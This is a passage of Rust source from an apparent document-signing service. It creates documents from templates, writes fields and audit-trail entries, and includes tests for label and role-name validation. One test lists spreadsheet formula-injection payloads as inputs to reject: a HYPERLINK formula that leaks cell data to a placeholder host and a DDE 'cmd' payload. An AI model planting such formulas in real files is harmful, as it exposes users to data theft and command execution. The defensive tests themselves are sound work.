        if !values.contains_key(&field.label) {
            problems.invalid(
                format!("values.{}", field.label),
                "required: a read-only field is stamped with the value the document is made with",
            );
        }
    }
    found
}

/// Writes what `plan` checked, on `tx`: the document (CREATED), its recipients and fields, the
/// trail, and with `send` the send (SENT, invitations, `document.sent`).
pub async fn make(
    tx: &mut sqlx::PgConnection,
    usable: &Usable,
    document_id: DocumentId,
    plan: Plan,
    actor: &Actor,
    notifier: &Notifier,
) -> Result<()> {
    let Usable {
        template,
        roles,
        fields: template_fields,
        ..
    } = usable;
    let account_id = template.account_id;
    let document = documents::insert(
        &mut *tx,
        &documents::NewDocument {
            id: document_id,
            account_id,
            title: &plan.title,
            file_key: &template.file_key,
            sha256: &template.sha256,
            page_sizes: &template.page_sizes,
            template_id: Some(template.id),
        },
    )
    .await?;
    let subject = Subject::of(&document);
    effects::record_in_trail(&mut *tx, subject, DocumentEvent::Created, actor).await?;
    let new_recipients = drafting::new_recipients(0, plan.people.into_iter());
    recipients::insert_many(&mut *tx, account_id, document_id, &new_recipients).await?;
    let mut values: HashMap<usize, String> = plan.values.into_iter().collect();
    let prefilled = values.len();
    let new_fields: Vec<NewField> = template_fields
        .iter()
        .enumerate()
        .filter_map(|(i, field)| {
            let index = roles.iter().position(|r| r.id == field.role_id)?;
            let recipient = new_recipients.get(index)?;
            Some(NewField {
                id: FieldId::new(),
                recipient_id: recipient.id,
                field_type: field.field_type,
                page: field.page,
                x: field.x,
                y: field.y,
                width: field.width,
                height: field.height,
                value: values
                    .remove(&i)
                    .or_else(|| field.value.clone())
                    .or_else(|| drafting::name_prefill(field.field_type, &recipient.name)),
                read_only: field.read_only,
                label: Some(field.label.clone()),
                required: field.required,
                rules: field.rules.0.clone(),
            })
        })
        .collect();
    fields::insert_many(&mut *tx, account_id, document_id, &new_fields).await?;
    let mut made = format!(
        "Made from template {}: {} recipients, {} fields",
        template.id,
        new_recipients.len(),
        new_fields.len()
    );
    if prefilled > 0 {
        made.push_str(&format!(", {prefilled} prefilled"));
    }
    effects::record_in_trail(&mut *tx, subject, DocumentEvent::DraftChanged(made), actor).await?;
    if let Some(request) = plan.send {
        let everyone = recipients::list(&mut *tx, document_id).await?;
        drafting::send_draft(
            &mut *tx,
            &document,
            &everyone,
            Some(request),
            Problems::default(),
            actor,
            notifier,
        )
        .await?;
    }
    Ok(())
}

/// Archives the account's template: hidden from the list, no new documents from it.
#[tracing::instrument(name = "templates::archive", skip_all)]
pub async fn archive(pool: &PgPool, account_id: AccountId, id: TemplateId) -> Result<()> {
    templates::archive(pool, account_id, id).await
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_label_is_letters_digits_and_a_few_marks() {
        assert_eq!(check_label(" Company "), Ok("Company".into()));
        assert_eq!(
            check_label("Tenant.signature.1"),
            Ok("Tenant.signature.1".into())
        );
        assert_eq!(check_label("Miete_2-Straße"), Ok("Miete_2-Straße".into()));
        assert_eq!(check_label("租金"), Ok("租金".into()));
        for refused in ["", "   ", "Rent!", "a/b", "x\ty", "Rent,", &"x".repeat(101)] {
            assert!(check_label(refused).is_err(), "{refused:?}");
        }
        assert!(
            check_label(&"é".repeat(100)).is_ok(),
            "characters, not bytes"
        );
        assert_eq!(check_label("Net-Rent"), Ok("Net-Rent".into()));
        for formula in ["-12", " -Rent", "-"] {
            assert_eq!(
                check_label(formula),
                Err(inputs::LABEL_FORMULA_START.into()),
                "{formula:?}"
            );
        }
    }

    #[test]
    fn a_role_name_does_not_begin_as_a_spreadsheet_formula() {
        assert_eq!(inputs::check_role_name(" Tenant "), Ok("Tenant".into()));
        for kept in ["O'Brien & Co", "Tenant = payer", "Role 1", "a-b", "x@y"] {
            assert_eq!(inputs::check_role_name(kept), Ok(kept.into()));
        }
        for formula in [
            r#"=HYPERLINK("http://x/"&A2)"#,
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1",
            "-Tenant",
            " =x",
            "'Tis",
        ] {
            assert_eq!(
                inputs::check_role_name(formula),
                Err(inputs::ROLE_NAME_FORMULA_START.into()),
                "{formula:?}"
            );
        }
        assert!(inputs::check_role_name("\t\r").is_err());
    }

    #[test]
    fn a_blank_label_is_the_next_free_one_of_its_role_and_type() {
        let field = |label: &str, field_type: &str| serde_json::json!({"label": label, "type": field_type, "page": 1, "x": 0, "y": 0});
        let mut roles: Vec<TemplateRoleInput> = serde_json::from_value(serde_json::json!([
            {"name": " Tenant ", "role": "SIGNER", "fields": [
                field("Tenant.signature.2", "SIGNATURE"), field(" ", "SIGNATURE"),
                field("", "SIGNATURE"), field("", "TEXT"), field("Rent", "TEXT"),
            ]},
            {"name": "Ann/Bob", "role": "VIEWER", "fields": [field("", "DATE")]},
        ]))
        .unwrap();
        label_blank_fields(&mut roles);
        let labels: Vec<&str> = roles
            .iter()
            .flat_map(|r| &r.fields)
            .map(|f| f.label.as_str())
            .collect();
        assert_eq!(
            labels,
            [
                "Tenant.signature.2",
                "Tenant.signature.3",
                "Tenant.signature.4",
                "Tenant.text.1",
                "Rent",
                "Ann_Bob.date.1",
            ]
        );
    }

    #[test]
    fn a_generated_label_is_a_label_whatever_the_role_is_called() {
        let longest = "Ω".repeat(MAX_ROLE_NAME_CHARS);
        let label = format!("{}.signature.1000", label_safe(&longest));
        assert_eq!(check_label(&label), Ok(label.clone()));
        assert_eq!(label_safe("Ann/Bob <co>"), "Ann_Bob _co_");
    }
}
